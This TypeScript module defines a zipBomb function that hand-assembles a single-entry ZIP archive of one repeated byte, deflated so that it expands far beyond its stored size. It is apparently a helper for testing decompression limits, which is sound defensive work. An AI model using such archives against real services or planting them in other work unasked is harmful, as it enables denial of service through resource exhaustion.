import { crc32, deflateRawSync } from 'node:zlib'

/**
 * A ZIP with one file of a single byte over and over, that unpacks to far more than it weighs (APPNOTE 6.3, 4.3.7 and 4.3.12; ZIP libraries
 * in JavaScript take half a minute to pack as much).
 * @param size bytes
 */
export function zipBomb(name: string, size: number, byte: number): Buffer {
  const content = Buffer.alloc(size, byte)
  const packed = deflateRawSync(content, { level: 9 })
  const label = Buffer.from(name)
  const common = Buffer.alloc(26)
  common.writeUInt16LE(20, 0)
  common.writeUInt16LE(8, 4)
  common.writeUInt32LE(crc32(content), 10)
  common.writeUInt32LE(packed.length, 14)
  common.writeUInt32LE(size, 18)
  common.writeUInt16LE(label.length, 22)
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, label, packed])
  const made = Buffer.from([20, 0])
  const entry = Buffer.concat([Buffer.from('PK\x01\x02'), made, common, Buffer.alloc(14), label])
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(entry.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, entry, end])
}
